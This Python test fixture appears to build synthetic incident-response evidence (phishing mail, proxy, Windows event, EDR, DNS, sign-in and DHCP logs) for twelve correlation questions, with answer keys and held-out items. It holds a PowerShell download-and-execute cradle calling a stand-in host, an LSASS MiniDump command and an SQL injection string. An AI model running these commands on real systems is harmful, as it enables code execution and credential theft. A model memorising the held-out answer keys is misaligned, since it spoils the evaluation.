"""Twelve bundles of inputs of different kinds: half have something in common that matters, half have only what every
network has in common (the gateway, the DNS server, SYSTEM, the proxy, a namesake). Half of each are held back.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Mapping, Sequence
from email.message import EmailMessage
from email.policy import SMTP

import msgspec

from tests.support.captures import START, Frame, capture, conversation
from tests.support.evtx_writer import Record, evtx

FORWARDING = [{"Name": "ForwardTo", "Value": "drop@mailbox.example"}, {"Name": "DeleteMessage", "Value": "True"}]
EMPTY_SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
GATEWAY, RESOLVER = "10.0.0.1", "10.0.0.53"


class Bundle(msgspec.Struct, frozen=True, kw_only=True):
    """Inputs of one question.

    ``same`` are the values that the answer must name as shared, ``never`` those it must not.
    """

    name: str
    is_held: bool
    files: Mapping[str, bytes]
    same: tuple[str, ...] = ()
    never: tuple[str, ...] = ()


def table(rows: Sequence[Mapping[str, object]]) -> bytes:
    """Records as CSV."""
    text = io.StringIO()
    writer = csv.DictWriter(text, fieldnames=list(dict.fromkeys(name for row in rows for name in row)))
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue().encode()


def lines(rows: Iterable[Mapping[str, object]]) -> bytes:
    """Records as JSON lines."""
    return b"".join(json.dumps(row).encode() + b"\n" for row in rows)


def phish(*, link: str, to: str, sender: str = "203.0.113.45", domain: str = "billing-desk.example") -> bytes:
    message = EmailMessage(policy=SMTP)
    message["Return-Path"] = f"<bounce@mail.{domain}>"
    message["Received"] = (
        f"from mail.{domain} (unknown [{sender}]) by mx.corp.test with ESMTP id 7714; Fri, 20 Nov 2026 07:58:12 +0000"
    )
    message["Authentication-Results"] = (
        f"mx.corp.test; spf=fail smtp.mailfrom=mail.{domain}; dkim=none; dmarc=fail header.from={domain}"
    )
    message["From"] = f'"Billing Desk" <notice@{domain}>'
    message["Reply-To"] = "billing.desk.7714@mailbox.example"
    message["To"] = to
    message["Subject"] = "Final notice: your account will be closed today"
    message["Date"] = "Fri, 20 Nov 2026 08:58:09 +0100"
    message["Message-ID"] = f"<7714@mail.{domain}>"
    message.set_content(
        "Dear customer,\r\n\r\nyour account will be closed today. Verify your password immediately at\r\n"
        f"{link} within 2 hours.\r\n"
    )
    return message.as_bytes()


def squid(requests: Iterable[tuple[float, str, str, str]]) -> bytes:
    """Requests (time, client, URL, user) of a Squid proxy that forwards from 10.0.0.8."""
    return b"".join(
        f"{at:.3f}    210 {client} TCP_TUNNEL/200 4512 CONNECT {url}:443 {user} HIER_DIRECT/198.51.100.80 -\n".encode()
        for at, client, url, user in requests
    )


def browsing(*, client: str = "10.0.0.31", user: str = "-") -> list[tuple[float, str, str, str]]:
    sites = ("www.bing.com", "login.microsoftonline.com", "intranet.corp.test", "ctldl.windowsupdate.com")
    return [(1_795_161_600 + 60 * number, client, sites[number % 4], user) for number in range(12)]


def windows(*records: tuple[int, str, dict[str, str]], host: str = "WS-17.corp.test", sysmon: bool = False) -> bytes:
    channel = "Microsoft-Windows-Sysmon/Operational" if sysmon else "Security"
    provider = "Microsoft-Windows-Sysmon" if sysmon else "Microsoft-Windows-Security-Auditing"
    made = [
        Record(number=number, event_id=event_id, time=f"2026-11-20T{clock}+00:00", channel=channel, provider=provider,
               computer=host, data=data)
        for number, (event_id, clock, data) in enumerate(records, start=1)
    ]  # fmt: skip
    return evtx(made)


def logon(account: str, address: str, *, domain: str = "CORP", sid: str = "", workstation: str = "-", kind: str = "3"):
    return {
        "TargetUserName": account, "TargetDomainName": domain, "TargetUserSid": sid or "S-1-5-18", "LogonType": kind,
        "IpAddress": address, "WorkstationName": workstation, "SubjectUserName": "-", "SubjectDomainName": "-",
    }  # fmt: skip


SYSTEM_LOGON = logon("SYSTEM", "-", domain="NT AUTHORITY", kind="5")


def failures(account: str, address: str, count: int = 25) -> list[tuple[int, str, dict[str, str]]]:
    failed = {"TargetUserName": account, "TargetDomainName": "CORP", "LogonType": "3", "IpAddress": address,
              "Status": "0xc000006d", "SubStatus": "0xc000006a", "WorkstationName": "-"}  # fmt: skip
    return [(4625, f"09:{number:02}:05", failed) for number in range(count)]


def started(image: str, command: str, user: str, *, pid: str = "4188", sha256: str = "0" * 63 + "7"):
    return {
        "UtcTime": "2026-11-20 09:06:41.000", "ProcessId": pid, "Image": image, "CommandLine": command, "User": user,
        "ParentImage": r"C:\Windows\explorer.exe", "Hashes": f"SHA256={sha256.upper()}",
    }  # fmt: skip


POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
RUNDLL = r"C:\Windows\System32\rundll32.exe"
DUMP = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 644 C:\Users\Public\l.dmp full"
CRADLE = "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://cdn.pay-check.example/a')"


def auth(source: str, *, host: str = "web-3", account: str = "deploy", gets_in: bool = False) -> bytes:
    failed = "".join(
        f"Nov 20 03:{number:02}:05 {host} sshd[91]: Failed password for {account} from {source} port 40022 ssh2\n"
        for number in range(30)
    )
    into = f"Nov 20 03:31:00 {host} sshd[92]: Accepted password for {account} from {source} port 40022 ssh2\n"
    local = f"Nov 20 03:40:00 {host} sshd[93]: Accepted publickey for backup from {GATEWAY} port 40100 ssh2\n"
    return (failed + (into if gets_in else "") + local).encode()


def web(attacker: str, *, visitor: str = GATEWAY) -> bytes:
    attacks = "".join(
        f'{attacker} - - [20/Nov/2026:04:1{number}:09 +0100] "GET /item?id=1%27%20UNION%20SELECT%20password HTTP/1.1" '
        f'200 512 "-" "sqlmap/1.7"\n'
        for number in range(9)
    )
    visits = "".join(
        f'{visitor} - - [20/Nov/2026:04:2{number}:09 +0100] "GET / HTTP/1.1" 200 812 "-" "Mozilla/5.0"\n'
        for number in range(9)
    )
    return (attacks + visits).encode()


def beacons(server: str, *, client: str = "10.0.0.41") -> bytes:
    frames: list[Frame] = []
    for number in range(40):
        turns = [(">", b"GET /tick HTTP/1.1\r\nHost: " + server.encode() + b"\r\n\r\n"),
                 ("<", b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")]  # fmt: skip
        at = START + 60.0 * number
        frames += conversation(turns, client=client, server=server, ports=(50_000 + number, 80), at=at)
    return capture(sorted(frames, key=lambda one: one[0]))


def sign_ins(rows: Iterable[tuple[str, str, str, bool]]) -> bytes:
    """Entra sign-ins (time, user, address, success)."""
    return json.dumps(
        [
            {
                "createdDateTime": f"2026-11-20T{clock}Z", "userPrincipalName": user, "ipAddress": address,
                "appDisplayName": "Office 365 Exchange Online", "status": {"errorCode": 0 if success else 50126},
                "location": {"countryOrRegion": "DE"}, "clientAppUsed": "Browser", "id": f"{clock}{user}",
            }
            for clock, user, address, success in rows
        ]
    ).encode()  # fmt: skip


def spraying(address: str, *, victim: str = "") -> list[tuple[str, str, str, bool]]:
    tried = [(f"05:{number:02}:10", f"person{number}@corp.test", address, False) for number in range(30)]
    return [*tried, ("05:40:00", victim, address, True)] if victim else tried


def office_use(address: str) -> list[tuple[str, str, str, bool]]:
    """People of the office, who all come from one public address."""
    return [(f"08:{number:02}:00", f"staff{number}@corp.test", address, True) for number in range(12)]


def unified(rows: Iterable[tuple[str, str, str, str]]) -> bytes:
    """Microsoft 365 audit records (time, user, address, operation)."""
    return lines(
        {
            "CreationTime": f"2026-11-20T{clock}", "Id": f"{number:08}-0000-4000-8000-000000000000",
            "Operation": operation, "OrganizationId": "1", "RecordType": 1, "UserKey": user, "UserType": 0,
            "Workload": "Exchange", "UserId": user, "ClientIP": address, "ResultStatus": "True",
            "Parameters": FORWARDING if operation == "New-InboxRule" else [],
        }
        for number, (clock, user, address, operation) in enumerate(rows)
    )  # fmt: skip


def vpn(rows: Iterable[tuple[str, str, str, str]]) -> bytes:
    """A VPN gateway's table (time, user, public address, result)."""
    return table(
        [
            {"timestamp": f"2026-11-20T{clock}+01:00", "user": user, "src_ip": address, "action": "vpn login",
             "result": result, "device": "vpn-gw1"}
            for clock, user, address, result in rows
        ]
    )  # fmt: skip


def hunting(rows: Iterable[Mapping[str, str]]) -> bytes:
    """Defender's process events."""
    common = {"ActionType": "ProcessCreated", "InitiatingProcessFileName": "explorer.exe", "ReportId": "1"}
    return table([common | dict(row) for row in rows])


def process(clock: str, device: str, command: str, *, user: str = "mara", sha256: str = "7" * 64, pid: str = "4188"):
    image = command.split(" ")[0].removesuffix(".exe") + ".exe"
    return {
        "Timestamp": f"2026-11-20T{clock}.000Z", "DeviceName": device, "FileName": image,
        "FolderPath": rf"C:\Windows\System32\{image}", "ProcessCommandLine": command, "ProcessId": pid,
        "AccountName": user, "AccountDomain": "corp", "SHA256": sha256,
    }  # fmt: skip


def lookups(rows: Iterable[tuple[str, str, str]]) -> bytes:
    """A BIND query log (time, client, name); BIND states no zone."""
    return b"".join(
        f"20-Nov-2026 {clock}.113 queries: info: client @0x7f2c {client}#53124 ({name}): query: {name} IN A +E(0)K "
        f"({RESOLVER})\n".encode()
        for clock, client, name in rows
    )


def daily_lookups(client: str = "10.0.0.31") -> list[tuple[str, str, str]]:
    names = ("www.bing.com", "ctldl.windowsupdate.com", "intranet.corp.test", "login.microsoftonline.com")
    return [(f"10:{number:02}:00", client, names[number % 4]) for number in range(16)]


def misp(*attributes: tuple[str, str]) -> bytes:
    made = [
        {"type": kind, "value": value, "to_ids": True, "category": "Network activity"} for kind, value in attributes
    ]
    return json.dumps(
        {"Event": {"info": "Payroll fraud", "uuid": "1", "date": "2026-11-19", "Attribute": made}}
    ).encode()


def leases(rows: Iterable[tuple[str, str, str]]) -> bytes:
    """dhcpd's messages (time, address, host)."""
    return b"".join(
        f"Nov 20 {clock} gw dhcpd[411]: DHCPACK on {address} to 00:50:56:aa:bb:cc ({host}) via eth1\n".encode()
        for clock, address, host in rows
    )


LINK = "secure.pay-check.example"
SHA = "5d41402abc4b2a76b9719d911017c592ae41e4649b934ca495991b7852b85517"

BUNDLES = (
    Bundle(
        name="the link of a mail is visited, and its program starts",
        is_held=False,
        files={
            "mail.eml": phish(link=f"http://{LINK}/login", to="mara@corp.test"),
            "proxy.log": squid([*browsing(), (1_795_165_300.1, "10.0.0.17", LINK, "mara")]),
            "ws17.evtx": windows(
                (1, "09:06:41", started(POWERSHELL, CRADLE.replace("cdn.pay-check.example", LINK), r"CORP\mara")),
                (3, "09:06:43", {"Image": POWERSHELL, "ProcessId": "4188", "User": r"CORP\mara",
                                 "SourceIp": "10.0.0.17",
                                 "DestinationIp": "198.51.100.80", "DestinationHostname": LINK,
                                 "DestinationPort": "443"}),
                sysmon=True,
            ),
        },
        same=("secure[.]pay-check[.]example",),
        never=("SYSTEM", "10[.]0[.]0[.]53"),
    ),
    Bundle(
        name="a mail, a proxy and a brute-forced server without anything in common",
        is_held=True,
        files={
            "mail.eml": phish(link="http://parcel.example/track", to="olga@corp.test"),
            "proxy.log": squid([*browsing(client=GATEWAY), *browsing(client="10.0.0.66", user="olav")]),
            "fs01.evtx": windows(
                *failures("svc_scan", "10.0.0.99"), (4624, "10:00:00", SYSTEM_LOGON),
                (4624, "10:01:00", logon("backup", GATEWAY)), host="FS01.corp.test",
            ),
        },
        never=("10[.]0[.]0[.]1`", "SYSTEM", "corp[.]test", "microsoftonline"),
    ),
    Bundle(
        name="who guesses passwords also attacks the website and is called back",
        is_held=False,
        files={
            "auth.log": auth("203.0.113.77", gets_in=True),
            "access.log": web("203.0.113.77"),
            "capture.pcap": beacons("203.0.113.77", client="10.0.0.3"),
        },
        same=("203[.]0[.]113[.]77",),
        never=("10[.]0[.]0[.]1`",),
    ),
    Bundle(
        name="three attacks of three sources on three hosts behind one gateway",
        is_held=False,
        files={
            "auth.log": auth("203.0.113.10"),
            "access.log": web("203.0.113.20"),
            "capture.pcap": beacons("203.0.113.30"),
        },
        never=("10[.]0[.]0[.]1`", "203"),
    ),
    Bundle(
        name="a sprayed account forwards its mail and opens the VPN",
        is_held=True,
        files={
            "signins.json": sign_ins([*office_use("198.51.100.1"), *spraying("203.0.113.99", victim="nina@corp.test")]),
            "audit.jsonl": unified([("05:52:00", "nina@corp.test", "203.0.113.99", "New-InboxRule"),
                                    ("09:00:00", "staff1@corp.test", "198.51.100.1", "MailItemsAccessed")]),
            "vpn.csv": vpn([("07:10:00", "nina", "203.0.113.99", "success"),
                            ("09:00:00", "staff2", "198.51.100.1", "success")]),
        },
        same=("203[.]0[.]113[.]99", "nina[@]corp[.]test"),
        never=("198[.]51[.]100[.]1`", "staff"),
    ),
    Bundle(
        name="spraying, an inbox rule of another account and VPN failures of a third, from one office",
        is_held=False,
        files={
            "signins.json": sign_ins([*office_use("198.51.100.1"), *spraying("203.0.113.5")]),
            "audit.jsonl": unified([("06:00:00", "ivan@corp.test", "198.51.100.1", "New-InboxRule")]),
            "vpn.csv": vpn([*[(f"07:{number:02}:00", "admin", "203.0.113.200", "failure") for number in range(25)],
                            ("09:00:00", "staff2", "198.51.100.1", "success")]),
        },
        never=("198[.]51[.]100[.]1`", "staff", "admin"),
    ),
    Bundle(
        name="a listed domain and a listed file on a workstation known by several names",
        is_held=False,
        files={
            "edr.csv": hunting([process("09:06:41", "ws-17.corp.test", DUMP, sha256=SHA)]),
            "queries.log": lookups([*daily_lookups(), ("09:05:00", "10.0.0.17", "c2.payroll-fraud.example")]),
            "event.misp.json": misp(("domain", "c2.payroll-fraud.example"), ("sha256", SHA)),
            "dhcp.log": leases([("08:00:00", "10.0.0.17", "WS-17"), ("08:01:00", "10.0.0.31", "WS-31")]),
        },
        same=("c2[.]payroll-fraud[.]example", SHA, "ws-17"),
        never=("10[.]0[.]0[.]53", "ws-31"),
    ),
    Bundle(
        name="a detection, ordinary lookups and a list that names neither",
        is_held=True,
        files={
            "edr.csv": hunting([process("09:06:41", "ws-17.corp.test", DUMP, sha256=EMPTY_SHA256),
                                process("09:07:00", "ws-31.corp.test", "svchost.exe -k netsvcs -p", user="SYSTEM")]),
            "queries.log": lookups(daily_lookups("10.0.0.44")),
            "event.misp.json": misp(("domain", "never-seen.example"), ("sha256", EMPTY_SHA256), ("ip-src", RESOLVER)),
        },
        never=(EMPTY_SHA256, "10[.]0[.]0[.]53", "bing", "SYSTEM"),
    ),
    Bundle(
        name="one process in the EDR's table and in Sysmon, the account with its SID in the Security log",
        is_held=True,
        files={
            "edr.csv": hunting([process("09:06:41", "WS-17", DUMP, user="mara", sha256=SHA, pid="5120")]),
            "sysmon.evtx": windows(
                (1, "09:06:41", started(RUNDLL, DUMP, r"CORP\mara", pid="5120", sha256=SHA)),
                host="ws-17.corp.test", sysmon=True,
            ),
            "security.evtx": windows(
                *failures("mara", "10.0.0.90"),
                (4624, "09:30:00", logon("mara", "10.0.0.90", sid="S-1-5-21-1-2-3-1107", workstation="WS-90")),
                host="DC01.corp.test",
            ),
        },
        same=("MiniDump", SHA, r"CORP\mara"),
        never=("explorer.exe", "S-1-5-18"),
    ),
    Bundle(
        name="namesakes: two hosts and two accounts of the same name in different domains",
        is_held=True,
        files={
            "edr.csv": hunting([process("09:06:41", "ws-17.north.test", DUMP, user="bob")]),
            "security.evtx": windows(*failures("carla", "10.0.0.91"), host="ws-17.south.test"),
            "signins.json": sign_ins(spraying("203.0.113.41")),
            "mail.eml": phish(link="http://parcel.example/track", to="bob@other.test"),
        },
        never=("same account",),
    ),
    Bundle(
        name="the source of a guessed password is found by its lease, and its host attacks a website",
        is_held=True,
        files={
            "security.evtx": windows(*failures("administrator", "10.0.0.23"),
                                     (4624, "09:40:00", logon("administrator", "10.0.0.23")), host="FS01.corp.test"),
            "dhcp.log": leases([("08:00:00", "10.0.0.23", "lab-pc5"), ("08:20:00", "10.0.0.24", "lab-pc6")]),
            "edr.csv": hunting([process("08:59:00", "LAB-PC5.corp.test", DUMP, user="guest5"),
                                process("09:00:00", "LAB-PC6.corp.test", "notepad.exe C:\\a.txt", user="guest6")]),
        },
        same=("lab-pc5", "10[.]0[.]0[.]23"),
        never=("lab-pc6", "SYSTEM"),
    ),
    Bundle(
        name="attacks from outside, all hosts behind the same proxy and with the same agent",
        is_held=True,
        files={
            "auth.log": auth("192.0.2.44", host="db-1", account="root"),
            "proxy.log": squid([*browsing(client="10.0.0.8"), *browsing(client="127.0.0.1")]),
            "queries.log": lookups([*daily_lookups("10.0.0.8"), *daily_lookups("127.0.0.1")]),
            "edr.csv": hunting([process("09:06:41", "ws-40", DUMP, user="zoe"),
                                process("09:10:00", "ws-41", "svchost.exe -k netsvcs -p", user="SYSTEM")]),
        },
        never=("10[.]0[.]0[.]8`", "127[.]0[.]0[.]1", "root", "SYSTEM", "svchost"),
    ),
)  # fmt: skip
"""Held: six that were not looked at while the comparison was written."""
